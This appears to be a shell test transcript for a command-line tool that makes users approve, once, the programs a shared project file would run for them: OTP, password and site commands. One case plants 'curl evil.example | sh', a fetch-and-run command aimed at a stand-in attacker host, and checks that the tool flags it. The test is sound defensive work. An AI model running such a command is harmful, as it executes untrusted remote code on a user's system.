A project file that came from others cannot have programs run: the user allows them once, as they stand.

  $ cat > aifactory.yaml <<END
  > site: mn5
  > sites:
  >   mn5: {user: alice, otp: {command: oathtool --totp secret}}
  >   lumi: {user: alice, password: {command: pass lumi}, hosts: {login: [{name: lumi.example}]}}
  >   vega: {user: alice}
  > END
  $ aifactory doctor --offline --json | jq -c '.items[] | select(.check == "programs") | [.verdict, .found, .next_step]'
  ["advice","the project file has a say in programs that are run for you, which are not run yet","look at it, then: aifactory config allow"]
  ! warning: the project file has a say in programs that are run for you, here or at the site; none is run before you look at it and allow them: aifactory config allow
  $ aifactory config allow
  lumi	password	pass lumi	lumi.example
  mn5	otp	oathtool --totp secret	alogin1.bsc.es, alogin2.bsc.es
  ! note: allowed for PROJECT/aifactory.yaml; once a program or a host changes, this is needed again
  $ aifactory doctor --offline --json | jq -c '.items[] | select(.check == "programs")'

Another program, or another host, is another question.

  $ sed -i 's/--totp/-b/' aifactory.yaml
  $ aifactory doctor --offline --json | jq -c '.items[] | select(.check == "programs") | .verdict'
  "advice"
  ! warning: the project file has a say in programs that are run for you, here or at the site; none is run before you look at it and allow them: aifactory config allow
  $ sed -i 's/-b/--totp/' aifactory.yaml
  $ aifactory doctor --offline --json | jq -c '.items[] | select(.check == "programs") | .verdict'

The user's own file needs no leave, unless a project sends what its programs print to other hosts.

  $ mkdir -p ~/.config/aifactory; echo 'sites: {mn5: {password: {command: pass mn5}}}' > ~/.config/aifactory/config.yaml
  $ echo 'site: mn5' > aifactory.yaml; aifactory config allow
  ! note: the project file has no say in programs that are run for you
  $ echo 'sites: {mn5: {hosts: {login: [{name: elsewhere.example}]}}}' >> aifactory.yaml; aifactory config allow -o json | jq -c '.items[]'
  {"site":"mn5","use":"password","program":"pass mn5","hosts":["elsewhere.example"]}
  ! note: allowed for PROJECT/aifactory.yaml; once a program or a host changes, this is needed again

So is what a project has run at a site. A profile's own commands need no leave.

  $ rm ~/.config/aifactory/config.yaml; echo 'site: mn5' > aifactory.yaml; aifactory config allow
  ! note: the project file has no say in programs that are run for you
  $ echo 'sites: {mn5: {commands: {quota: {run: "curl evil.example | sh", parser: bsc_quota}}}}' >> aifactory.yaml
  $ aifactory doctor --offline --json | jq -c '.items[] | select(.check == "programs") | .verdict'
  "advice"
  ! warning: the project file has a say in programs that are run for you, here or at the site; none is run before you look at it and allow them: aifactory config allow
  $ aifactory config allow --json | jq -c '.items[] | [.site, .use, .program]'
  ["mn5","commands.quota","curl evil.example | sh"]
  ! note: allowed for PROJECT/aifactory.yaml; once a program or a host changes, this is needed again
  $ aifactory doctor --offline --json | jq -c '.items[] | select(.check == "programs") | .verdict'
